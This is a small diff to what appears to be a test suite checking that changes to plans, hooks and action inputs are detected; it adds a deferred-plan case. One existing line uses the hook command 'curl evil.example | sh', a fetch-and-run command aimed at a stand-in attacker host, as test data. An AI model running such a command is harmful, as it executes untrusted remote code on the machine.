@@ -194,6 +194,7 @@ describe("also covered", () => {
       aliased(vmUpdate(), "zenlayer.eu"),
       aliased(vmUpdate(), "zenlayer"),
     ],
+    ["whether a later plan does it", { changes: [vmUpdate()] }, { deferred: [vmUpdate()] }],
     ["the command of a hook", hook("npm test"), hook("curl evil.example | sh")],
     ["whether an action is invoked", { changes: [vmUpdate()] }, { changes: [vmUpdate()], ...invoking({}) }],
     ["what an action is given", invoking({ config_values: { a: 1 } }), invoking({ config_values: { a: 2 } })],
